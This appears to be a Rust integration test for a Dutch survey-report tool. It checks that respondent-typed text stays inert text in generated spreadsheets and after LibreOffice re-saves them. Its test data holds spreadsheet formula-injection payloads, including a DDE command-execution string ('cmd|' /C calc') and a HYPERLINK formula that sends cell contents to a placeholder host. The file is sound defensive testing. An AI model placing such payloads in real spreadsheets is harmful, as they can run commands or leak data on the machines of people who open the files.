//! What people typed never becomes a formula: not in a template, not in a report, and not after LibreOffice stored it.
//!
//! `cargo test --release --test it injection -- --ignored` needs what the module `variety` needs.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use crate::programs::{ketenscan, libreoffice, script, succeed};
use serde_json::{Value, json};
use tempfile::TempDir;

/// Texts that a spreadsheet interprets as a formula or a link when they are typed.
const TEXTS: [&str; 8] = [
    "=1+2",
    "+1+2 plekken",
    "-1-2 plekken",
    "@SUM(1;2)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://voorbeeld.invalid/?\"&A1,\"klik\")",
    "{=1+2}",
    "https://voorbeeld.invalid/pad",
];
const REGION: &str = "=1+2 land";
const MUNICIPALITIES: [&str; 3] = ["@ Duinstad", "+Veenwold", "-Rietmeer"];
const RESPONDENT: &str = "=A1&\"adviseur\"";
const SHEET: &str = "=1+2 Preventie";
const REPORT: &str = "1-2-land-2026.xlsx";

fn read(path: &Path) -> Value {
    script(
        "python3",
        "variety/injection.py",
        &json!({"task": "read", "open": path}),
    )
}

fn all_texts(found: &Value) -> BTreeSet<&str> {
    let sheets = found["texts"].as_object().expect("sheets").values();
    sheets
        .flat_map(|texts| texts.as_array().expect("texts"))
        .map(|text| text.as_str().expect("a text"))
        .collect()
}

/// Templates of a region whose names look like formulas.
fn templates(folder: &Path) -> PathBuf {
    let mut command = ketenscan(["sjabloon", "--jaar=2026", "--stil", "-o"]);
    command.arg(folder).arg(format!("--regio={REGION}"));
    for name in MUNICIPALITIES {
        command.arg(format!("--gemeente={name}"));
    }
    succeed(&mut command);
    folder.join("1-2-land-2026")
}

/// The report on two workbooks full of such texts, in `reports` of this folder.
fn report(folder: &Path) -> PathBuf {
    let templates = templates(folder);
    for (template, perspective, store) in [
        ("duinstad-gemeente.xlsx", "Gemeente", "=1+2.xlsx"),
        ("1-2-land-regio.xlsx", "Regio", "@SUM.xlsx"),
    ] {
        script(
            "python3",
            "variety/injection.py",
            &json!({
                "task": "fill",
                "edition": Path::new(env!("CARGO_MANIFEST_DIR")).join("questionnaires/2026"),
                "open": templates.join(template),
                "store": folder.join(store),
                "beside": {"Perspectief": perspective, "Ingevuld door (functie)": RESPONDENT, "Regio": REGION},
                "municipalities": MUNICIPALITIES,
                "texts": TEXTS,
                "sheet": SHEET,
            }),
        );
    }
    write(folder);
    folder.join("reports").join(REPORT)
}

fn write(folder: &Path) {
    let mut command = ketenscan(["rapport", "=1+2.xlsx", "@SUM.xlsx", "--overschrijf", "--stil"]);
    succeed(command.current_dir(folder));
}

/// Expects only our own formulas on our own sheet, only ranges in charts, and no links to what somebody typed.
fn expect_no_formula_of_theirs(what: &str, found: &Value) {
    let formulas = found["formulas"].as_object().expect("formulas");
    for (cell, formula) in formulas {
        let formula = formula.as_str().expect("a formula");
        assert!(
            cell.starts_with("Controle!"),
            "{what}: {cell} has the formula {formula}"
        );
        for word in ["cmd", "HYPERLINK", "=1+2", "SUM(1"] {
            assert!(!formula.contains(word), "{what}: {cell} has the formula {formula}");
        }
    }
    assert_eq!(
        found["elements"],
        json!(formulas.len()),
        "{what}: formulas that openpyxl passes over"
    );
    for reference in found["references"].as_array().expect("references") {
        let range = reference.as_str().expect("a text");
        assert!(
            range.contains('!') && range.contains('$'),
            "{what}: a chart shows {range}"
        );
    }
    for link in found["links"].as_array().expect("links") {
        assert!(
            !link.as_str().expect("a link").contains("voorbeeld.invalid"),
            "{what}: {link}"
        );
    }
}

#[test]
#[ignore = "needs LibreOffice and Python"]
fn names_in_a_template_remain_text() {
    let folder = TempDir::new().expect("a folder");
    for (name, wanted) in [
        ("duinstad-gemeente.xlsx", vec![REGION, MUNICIPALITIES[0]]),
        ("1-2-land-regio.xlsx", [&[REGION][..], &MUNICIPALITIES].concat()),
    ] {
        let folder = folder.path().join(name);
        let found = read(&templates(&folder).join(name));
        let texts = all_texts(&found);
        for text in wanted {
            assert!(texts.contains(text), "{name}: {text} is no text");
        }
        for (cell, formula) in found["formulas"].as_object().expect("formulas") {
            let formula = formula.as_str().expect("a formula");
            assert!(!formula.contains("1+2"), "{name}: {cell} has the formula {formula}");
        }
        assert_eq!(
            found["elements"],
            json!(found["formulas"].as_object().map(serde_json::Map::len))
        );
    }
}

#[test]
#[ignore = "needs LibreOffice and Python"]
fn what_people_typed_stays_text_in_the_report_and_in_libreoffice() {
    let folder = TempDir::new().expect("a folder");
    let path = report(folder.path());
    let found = read(&path);
    expect_no_formula_of_theirs("the report", &found);
    assert!(
        found["formulas"]
            .as_object()
            .is_some_and(|formulas| !formulas.is_empty())
    );
    assert!(found["references"].as_array().is_some_and(|charts| !charts.is_empty()));
    let texts = all_texts(&found);
    // The plan shows evidence after the name of whoever gave it, or alone; it must be somewhere.
    for text in TEXTS {
        assert!(
            texts.iter().any(|found| found.contains(text)),
            "{text} is not in the report"
        );
    }
    let silent = MUNICIPALITIES[1..]
        .iter()
        .map(|name| format!("{name} (geen antwoorden)"));
    let names = [MUNICIPALITIES[0], "=1+2.xlsx", "@SUM.xlsx", SHEET].map(str::to_owned);
    for name in names.into_iter().chain(silent) {
        assert!(texts.contains(&*name), "{name} is no text of its own");
    }

    let stored = folder.path().join("stored.xlsx");
    libreoffice("variety/store.py", &json!([{"open": path, "store": [stored]}]));
    let after = read(&stored);
    expect_no_formula_of_theirs("stored by LibreOffice", &after);
    assert_eq!(all_texts(&after), texts, "texts that LibreOffice stored otherwise");
}

#[test]
#[ignore = "needs LibreOffice and Python"]
fn what_people_typed_in_the_plan_stays_text_when_it_is_carried_over() {
    let folder = TempDir::new().expect("a folder");
    let path = report(folder.path());
    let fields = [
        "Nog te doen",
        "Betrokken",
        "Wie missen we nog",
        "Wanneer tevreden",
        "Eigenaar (functie)",
    ];
    // Distinguishable from the evidence, which may be the same.
    let typed = TEXTS.map(|text| format!("{text} plan"));
    script(
        "python3",
        "variety/injection.py",
        &json!({"task": "plan", "open": path, "store": path, "texts": typed, "fields": fields}),
    );
    write(folder.path());
    let found = read(&path);
    expect_no_formula_of_theirs("the report", &found);
    let plan = found["texts"]["Verbeterplan"].as_array().expect("texts");
    // Three points with five fields each contain all eight at least once.
    for text in &typed {
        assert!(plan.iter().any(|found| found == text), "{text} is not carried over");
    }
}
